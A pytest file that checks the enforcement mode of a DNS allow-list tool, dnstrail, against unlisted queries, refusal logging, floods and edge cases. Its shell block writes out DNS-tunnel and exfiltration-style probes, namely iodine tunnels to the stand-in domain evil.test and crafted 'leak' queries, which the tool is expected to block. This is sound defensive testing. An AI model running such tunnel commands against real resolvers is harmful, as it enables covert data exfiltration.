"""`dnstrail run --enforce` and questions: only listed ones reach the resolver, in whatever form they are sent."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from dnstrail_run.enforce.hooks import MOST_REFUSED
from live import unlisted_questions
from live.attempts import allowed_name
from live.enforced import LISTED_RUN, client_folder, enforced, watched
from live.listed_network import (
    FOREIGN,
    RESOLVER,
    RESOLVER6,
    SHARED,
    ListedNetwork,
    dns_sockets,
    listed_network,
    serving,
)
from live.namespaces import dnsmasq, live_or_skip
from live.processes import PATIENCE, run_dir, wait_until
from live.run_commands import within
from live.tunnels import IODINE
from live.unlisted_questions import EXTRA, OWN, leak, message, wire

TRIES = int(os.environ.get("DNSTRAIL_ENFORCED_TRIES", "23"))  # of each form
SUPPORT = Path(unlisted_questions.__file__).parents[1]
MODULE = ("env", f"PYTHONPATH={SUPPORT}", sys.executable, "-m", "live.unlisted_questions")
PROGRAMS = f"""
dig() {{ /usr/bin/dig +tries=1 +time=1 +short "$@" @{RESOLVER} > /dev/null 2>&1; }}
dig a.evil.test
dig TXT {OWN}
dig NULL {OWN}
dig +padding=1000 {OWN}
dig +nsid {OWN}
dig +subnet=192.0.2.0/24 {OWN}
dig -x 192.0.2.1
kdig +tries=1 +time=1 c.evil.test @{RESOLVER} > /dev/null 2>&1
kdig +tries=1 +time=1 +padding=400 {OWN} @{RESOLVER} > /dev/null 2>&1
getent ahosts d.evil.test
timeout 2 {IODINE} -f -r -T NULL -P secret {RESOLVER} evil.test > /dev/null 2>&1
timeout 2 {IODINE} -f -r -T TXT -P secret {RESOLVER} evil.test > /dev/null 2>&1
echo ended
"""


@pytest.fixture(scope="module")
def network() -> Iterator[ListedNetwork]:
    """Yield a client with the list, and its resolvers."""
    live_or_skip("dig", "kdig")
    with run_dir() as made:
        made.chmod(0o755)
        with listed_network(made, 1) as both, watched():
            both.ask(RESOLVER, RESOLVER6)
            yield both


@pytest.fixture
def folder() -> Iterator[Path]:
    """Yield a folder with the list of the client."""
    with client_folder() as made:
        with (made / "allowed").open("a") as file:
            file.write(f"{EXTRA} SRV\n")
        yield made


@pytest.fixture
def arrived(network, folder) -> Iterator[Path]:
    """Yield the file of what arrives at the resolvers."""
    with serving(network.hosts, folder / "arrived", *MODULE, "watch") as file:
        yield file


def packets_in(file: Path) -> set[str]:
    """Return what arrived: the protocol, and the bytes in hexadecimal digits."""
    return {line for line in file.read_text().splitlines() if line != "ready"}


def test_no_unlisted_question_reaches_the_resolver(network, folder, arrived):
    """Of every form, none arrives: other names, more than a question, other types, other ways to send."""
    report, out = enforced(network, folder, *MODULE, "unlisted", RESOLVER, RESOLVER6, str(TRIES), prefix=LISTED_RUN)
    found = json.loads(out)
    listed = bytes([len("known"), *b"known", len("allowed"), *b"allowed", 4, *b"test", 0]).hex() + "00010001"
    assert not {line for line in packets_in(arrived) if not line.endswith(listed)}, "only questions before others"
    datagrams = {form: results for form, results in found.items() if not form.startswith("stream")}
    assert datagrams == {form: {"EPERM": TRIES} for form in datagrams}
    reasons = {one["reason"] for one in report["refused"] if one["action"] == "ask"}
    assert {"unreadable", "name"} <= reasons <= {"unreadable", "name", "type"}


def test_each_listed_question_is_answered(network, folder, arrived):
    """Each listed question is answered at its first try, also over TCP and in capitals."""
    report, out = enforced(network, folder, *MODULE, "listed", RESOLVER, RESOLVER6, str(TRIES), prefix=LISTED_RUN)
    found = json.loads(out)
    assert found == {form: {"ok": TRIES} for form in found}
    assert report["refused"] == []


def test_programs_ask_for_listed_names_alone(network, folder, arrived):
    """dig, kdig, the C library and iodine reach the resolver with nothing that the list does not contain."""
    report, out = enforced(network, folder, "sh", "-c", PROGRAMS, prefix=LISTED_RUN)
    assert out == "ended\n"
    assert "evil" not in bytes.fromhex("".join(line.split()[1] for line in packets_in(arrived))).decode("latin-1")
    asked = {(one["name"], one["type"], one["reason"]) for one in report["refused"] if one["action"] == "ask"}
    assert {("a.evil.test", "A", "name"), (OWN, "TXT", "type"), ("d.evil.test", "A", "name")} <= asked
    assert any(one["program"]["name"] == "iodine" for one in report["refused"])


def test_a_refusal_is_written_while_the_command_runs(network, folder):
    """The command finds its own refusal in the file of --refusals; what it writes there itself is gone at the end."""
    script = f"dig +tries=1 +time=1 a.evil.test @{RESOLVER}; until grep a.evil.test refusals; do sleep 0.1; done"
    report, _ = enforced(
        network, folder, "sh", "-c", f"{script}; echo forged > refusals", prefix=(*LISTED_RUN, "--refusals", "refusals")
    )
    (line,) = (folder / "refusals").read_text().splitlines()
    notice = json.loads(line)
    assert (notice["name"], notice["process"]["name"], notice["allow"]) == ("a.evil.test", "dig", "a.evil.test")
    assert report["files"] == ["--refusals refusals was changed while the command ran: it is overwritten."]


def test_a_flood_of_refusals_is_bounded(network, folder):
    """Beyond the bound refusals are counted: at the end of the lines, and in the report."""
    reading, writing = os.pipe()
    with os.fdopen(reading) as lines, ThreadPoolExecutor() as pool:
        found = pool.submit(lambda: [*map(json.loads, lines)])
        run = (*LISTED_RUN, "--quiet", "--refusals", str(writing), "--report", "r.json", "--")
        command = within(network.hosts, *run, *MODULE, "flood", RESOLVER, RESOLVER6, str(MOST_REFUSED + 100))
        with subprocess.Popen(command, cwd=folder, pass_fds=[writing]) as process:
            os.close(writing)
            process.wait()
        *notices, last = found.result()
    left_out = last["left_out"]
    assert len({one["name"] for one in notices}) == len(notices) == MOST_REFUSED + 100 - left_out
    assert left_out >= 100
    (note,) = json.loads((folder / "r.json").read_text())["enforcement"]
    assert note == "100 further refusals found no room in this report."


def test_an_open_socket_to_the_resolver_after_a_kill(network, folder):
    """After dnstrail and its launcher are killed, a socket that asked before carries nothing, not even listed names."""
    script = f"""
import os, sys, time
from pathlib import Path
sys.path.insert(0, {str(SUPPORT)!r})
from live.unlisted_questions import *
made = socket.socket(type=socket.SOCK_DGRAM)
made.connect(({RESOLVER!r}, 53))
while Path("go").exists():
    Path("turn.new").write_text(f"{{os.getppid()}} {{result(lambda: made.send(message(wire(OWN))))}}")
    os.rename("turn.new", "turn")
    time.sleep(0.02)
"""
    (folder / "go").touch()
    turn = folder / "turn"
    with subprocess.Popen(
        within(network.hosts, *LISTED_RUN, "--", sys.executable, "-c", script), cwd=folder
    ) as process:
        try:
            wait_until(turn.exists, "the command", PATIENCE)
            launcher, found = turn.read_text().split()
            assert found == "ok"
            os.kill(int(launcher), signal.SIGKILL)
            process.kill()
            wait_until(lambda: turn.read_text().endswith("EPERM"), "the end of the rules", PATIENCE)
        finally:
            (folder / "go").unlink()
            process.kill()


def test_a_question_by_io_uring(network, folder, arrived):
    """io_uring sends a listed question, and no other one."""
    live_or_skip("gcc")
    program = folder / "send"
    subprocess.run(["gcc", "-o", program, SUPPORT / "live/uring_send.c"], check=True)
    (folder / "unlisted").write_bytes(message(wire(leak())))
    (folder / "listed").write_bytes(listed := message(wire(OWN)))
    script = f"./send {RESOLVER} 53 < unlisted; ./send {RESOLVER} 53 < listed"
    _, out = enforced(network, folder, "sh", "-c", script, prefix=LISTED_RUN)
    assert out.splitlines() == ["Operation not permitted", "ok"]
    wait_until(lambda: packets_in(arrived) == {f"17 {listed.hex()}"}, "the listed question")


def test_a_learned_list_is_extended(network, folder):
    """A second run keeps the lines of the list, marks what it did not use, and adds what it needed."""
    (folder / "learned").write_text("# mine\nold.test:443\n@npm\n")
    name = allowed_name(4, 0)
    run = (sys.executable, "-m", "dnstrail_cli", "run", "--quiet", "--allow-learn", "learned", "--", "getent")
    subprocess.run(within(network.hosts, *run, "ahostsv4", name), cwd=folder, check=True, capture_output=True)
    lines = (folder / "learned").read_text().splitlines()
    assert re.sub(r"\d{4}-\d\d-\d\d$", "TODAY", lines[1]) == "old.test:443  # not used since TODAY"
    assert [lines[0], *lines[2:]] == ["# mine", "@npm", name]


def test_a_name_with_a_resolver_of_its_own(network, folder):
    """The resolver of an entry is asked for its name alone, no other one is asked for it, and its answer counts."""
    with (folder / "allowed").open("a") as file:
        file.write(f"fourth.test:80 resolver {FOREIGN}\n")
    script = f"""
dig() {{ /usr/bin/dig +tries=1 +time=1 +short "$@" 2> /dev/null | head -1; }}
dig fourth.test @{RESOLVER}
dig shared.test @{FOREIGN}
dig fourth.test @{FOREIGN} +time=30
{sys.executable} -c "import socket; socket.create_connection(({SHARED!r}, 80)); print('connected')"
"""
    report, out = enforced(network, folder, "sh", "-c", script, prefix=LISTED_RUN)
    assert [line for line in out.splitlines() if not line.startswith(";;")] == [SHARED, "connected"]
    refused = {(one["name"], one["address"], one["reason"]) for one in report["refused"]}
    assert refused == {("fourth.test", RESOLVER, "resolver"), ("shared.test", FOREIGN, "resolver")}


def test_a_resolver_of_this_host_by_another_address(network, folder):
    """At 0.0.0.0 and ::, which reach a resolver of this host that the list allows, questions are checked."""
    with (folder / "allowed").open("a") as file:
        file.write("127.0.0.0/8\n[::1]\n")
    script = f"""
import sys
sys.path.insert(0, {str(SUPPORT)!r})
from live.unlisted_questions import *
from live.unlisted_questions import _answered
def ask(name, own, address, kind):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as made:
        made.settimeout(10 if name == OWN else 1)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        made.bind((own, 0)) if own else None
        made.connect((address, 53))
        if kind == socket.SOCK_DGRAM:
            return _answered(made, message(wire(name)))
        made.sendall(framed(message(wire(name))))
        if not made.recv(2):
            raise TimeoutError
for own, address in ("", "0.0.0.0"), ("", "::"), ("", "::ffff:0.0.0.0"), ("::ffff:127.0.0.1", "::"):
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        unlisted, listed = (result(lambda: ask(name, own, address, kind)) for name in (leak(), OWN))
        print(address, own, unlisted, listed, sep=",")
"""
    client = network.hosts.client
    with dnsmasq(client, "127.0.0.1", 53, "/test/192.0.2.9"), dnsmasq(client, "::1", 53, "/test/192.0.2.9"):
        wait_until(lambda: dns_sockets(client) > 1, "the resolvers")
        network.ask("127.0.0.1", "::1")
        try:
            report, out = enforced(network, folder, sys.executable, "-c", script, prefix=LISTED_RUN)
        finally:
            network.ask(RESOLVER, RESOLVER6)
    forms = ["0.0.0.0,", "::,", "::ffff:0.0.0.0,", "::,::ffff:127.0.0.1"]
    assert out.splitlines() == [f"{form},{first},ok" for form in forms for first in ("EPERM", "ETIMEDOUT")]
    assert {one["reason"] for one in report["refused"]} == {"name"}
